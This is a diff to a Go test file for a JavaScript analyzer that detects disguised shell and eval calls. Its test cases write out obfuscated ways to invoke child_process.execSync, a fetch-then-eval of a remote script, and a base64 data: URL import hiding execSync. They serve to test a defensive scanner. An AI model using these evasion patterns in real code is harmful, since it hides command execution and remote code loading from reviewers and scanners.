@@ -1,6 +1,7 @@
 package jsast
 
 import (
+	"encoding/base64"
 	"slices"
 	"strings"
 	"testing"
@@ -243,22 +244,26 @@ var v = 'a' + 'b'.toUpperCase();
 
 func TestCallsInDisguise(t *testing.T) {
 	for name, tc := range map[string]struct{ src, callee, arg string }{
-		"escaped name":      {`\u0065val("1+1"); require("child_process").\u0065xecSync("id")`, "child_process.execSync", "id"},
-		"escaped global":    {`\u{65}val(x)`, "eval", ""},
-		"with module":       {`with (require("child_process")) { execSync("id") }`, "child_process.execSync", "id"},
-		"Reflect.get":       {`const cp = require("child_process"); Reflect.get(cp, "exec" + "Sync")("id")`, "child_process.execSync", "id"},
-		"tagged template":   {"const { execSync } = require('child_process'); execSync`id`", "child_process.execSync", "id"},
-		"worker eval":       {`const { Worker } = require("worker_threads"); new Worker("require('os')", { eval: true })`, "worker_threads.Worker.eval", "require('os')"},
-		"worker eval as !0": {`new (require("worker_threads").Worker)(code, { eval: !0 })`, "worker_threads.Worker.eval", ""},
-		"bound":             {`const cp = require("child_process"); const run = cp.execSync.bind(cp); run("id")`, "child_process.execSync", "id"},
-		"computed key":      {`const { ["exe" + "cSync"]: run } = require("child_process"); run("id")`, "child_process.execSync", "id"},
-		"exports member":    {`exports.run = require("child_process").execSync; exports.run("id")`, "child_process.execSync", "id"},
-		"onto global":       {`Object.assign(globalThis, require("child_process")); execSync("id")`, "child_process.execSync", "id"},
-		"call.call":         {`Function.prototype.call.call(require("child_process").execSync, null, "id")`, "child_process.execSync", "id"},
-		"forEach reference": {`const cp = require("child_process"); ["id"].forEach(cp.execSync)`, "child_process.execSync", "id"},
-		"then(eval)":        {`fetch("https://h.invalid/p.js").then(r => r.text()).then(eval)`, "eval", ""},
-		"rest of a module":  {`const { ...cp } = require("child_process"); cp.execSync("id")`, "child_process.execSync", "id"},
-		"String.raw":        {"const c = String.raw`id`; require('child_process').execSync(c)", "child_process.execSync", "id"},
+		"escaped name":           {`\u0065val("1+1"); require("child_process").\u0065xecSync("id")`, "child_process.execSync", "id"},
+		"escaped global":         {`\u{65}val(x)`, "eval", ""},
+		"with module":            {`with (require("child_process")) { execSync("id") }`, "child_process.execSync", "id"},
+		"Reflect.get":            {`const cp = require("child_process"); Reflect.get(cp, "exec" + "Sync")("id")`, "child_process.execSync", "id"},
+		"tagged template":        {"const { execSync } = require('child_process'); execSync`id`", "child_process.execSync", "id"},
+		"worker eval":            {`const { Worker } = require("worker_threads"); new Worker("require('os')", { eval: true })`, "worker_threads.Worker.eval", "require('os')"},
+		"worker eval as !0":      {`new (require("worker_threads").Worker)(code, { eval: !0 })`, "worker_threads.Worker.eval", ""},
+		"bound":                  {`const cp = require("child_process"); const run = cp.execSync.bind(cp); run("id")`, "child_process.execSync", "id"},
+		"computed key":           {`const { ["exe" + "cSync"]: run } = require("child_process"); run("id")`, "child_process.execSync", "id"},
+		"exports member":         {`exports.run = require("child_process").execSync; exports.run("id")`, "child_process.execSync", "id"},
+		"onto global":            {`Object.assign(globalThis, require("child_process")); execSync("id")`, "child_process.execSync", "id"},
+		"call.call":              {`Function.prototype.call.call(require("child_process").execSync, null, "id")`, "child_process.execSync", "id"},
+		"forEach reference":      {`const cp = require("child_process"); ["id"].forEach(cp.execSync)`, "child_process.execSync", "id"},
+		"then(eval)":             {`fetch("https://h.invalid/p.js").then(r => r.text()).then(eval)`, "eval", ""},
+		"rest of a module":       {`const { ...cp } = require("child_process"); cp.execSync("id")`, "child_process.execSync", "id"},
+		"String.raw":             {"const c = String.raw`id`; require('child_process').execSync(c)", "child_process.execSync", "id"},
+		"getBuiltinModule":       {`process.getBuiltinModule("node:child_process").execSync("id")`, "child_process.execSync", "id"},
+		"getBuiltinModule bound": {`const { execSync: run } = globalThis.process.getBuiltinModule("child_process"); run("id")`, "child_process.execSync", "id"},
+		"Bun shell":              {"await Bun.$`id`", "Bun.$", "id"},
+		"zx shell":               {"import { $ } from \"zx\"; await $`id`", "zx.$", "id"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			f := Analyze("a.js", []byte(tc.src), DefaultLimits())
@@ -336,7 +341,8 @@ func TestPackageValues(t *testing.T) {
 }
 
 func TestReadFileConstants(t *testing.T) {
-	files := map[string]string{"lib/cmd.txt": "id", "mod.txt": "child_process", "lib/up.txt": "up"}
+	files := map[string]string{"lib/cmd.txt": "id", "mod.txt": "child_process", "lib/up.txt": "up",
+		"lib/config.json": `{"init":"id","n":1}`, "data.json": `{"cmd":"up"}`, "lib/list.json": `["id"]`}
 	var asked []string
 	lim := DefaultLimits()
 	lim.ReadFile = func(name string) (string, bool) {
@@ -352,6 +358,12 @@ func TestReadFileConstants(t *testing.T) {
 		`require("child_process").execSync(require("fs").readFileSync("/etc/hostname", "utf8"))`:                                                           "",
 		`require("child_process").execSync(require("fs").readFileSync("../outside.txt", "utf8"))`:                                                          "",
 		`require("child_process").execSync(require("fs").readFileSync(process.argv[2], "utf8"))`:                                                           "",
+		// a string field of one of the package's JSON files
+		`const c = require("./config.json"); require("child_process").execSync(c.init)`: "id",
+		`require("child_process").execSync(require("../data.json").cmd)`:                "up",
+		`const c = require("./config.json"); require("child_process").execSync(c.n)`:    "",
+		`const c = require("./list.json"); require("child_process").execSync(c.init)`:   "",
+		`const c = require("x/config.json"); require("child_process").execSync(c.init)`: "",
 	} {
 		asked = asked[:0]
 		c := hasCall(Analyze("lib/index.js", []byte(src), lim), "child_process.execSync")
@@ -886,5 +898,39 @@ func TestLimit(t *testing.T) {
 		if f := Analyze("a.js", []byte(tc.src), lim); f.Limit != tc.want {
 			t.Errorf("%s: limit %v (%q), want %v", tc.name, f.Limit, f.ParseError, tc.want)
 		}
+	}
+}
+
+func TestDataURLImport(t *testing.T) {
+	b64 := base64.StdEncoding.EncodeToString([]byte(`require("child_process").execSync("id")`))
+	for name, tc := range map[string]struct {
+		src, code string
+		decoded   bool
+	}{
+		"base64":         {`await import("data:text/javascript;base64,` + b64 + `")`, `require("child_process").execSync("id")`, true},
+		"concatenated":   {`const p = "` + b64 + `"; import("data:text/javascript;base64," + p)`, `require("child_process").execSync("id")`, true},
+		"percent":        {`import("data:application/javascript," + encodeURIComponent(x)); import("data:text/javascript,require(%22child_process%22).execSync(%22id%22)")`, `require("child_process").execSync("id")`, true},
+		"plain":          {`import('data:text/javascript,require("child_process").execSync("id")')`, `require("child_process").execSync("id")`, false},
+		"charset_static": {`import x from "data:text/javascript;charset=utf-8;base64,` + b64 + `"`, `require("child_process").execSync("id")`, true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			f := Analyze("a.mjs", []byte(tc.src), DefaultLimits())
+			c := hasCall(f, DataImport)
+			if c == nil || len(c.Args) != 1 || c.Args[0].Value != tc.code || c.Args[0].Decoded != tc.decoded {
+				t.Fatalf("data import call %+v in %+v", c, f.Calls)
+			}
+			// the payload's own behaviour is seen
+			if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
+				t.Errorf("payload not analysed: imports %+v calls %+v", f.Imports, f.Calls)
+			}
+		})
+	}
+	// other data: URLs are not code, and other imports stay imports
+	f := Analyze("b.mjs", []byte(`import cfg from "data:application/json,{}"; import("data:application/wasm;base64,AGFzbQ=="); import("./x.js"); import("data:text/javascript;base64,@@@")`), DefaultLimits())
+	if c := hasCall(f, DataImport); c != nil {
+		t.Errorf("not JavaScript, or not decodable, but a data import: %+v", c)
+	}
+	if !hasImport(f, "./x.js") {
+		t.Errorf("imports %+v", f.Imports)
 	}
 }
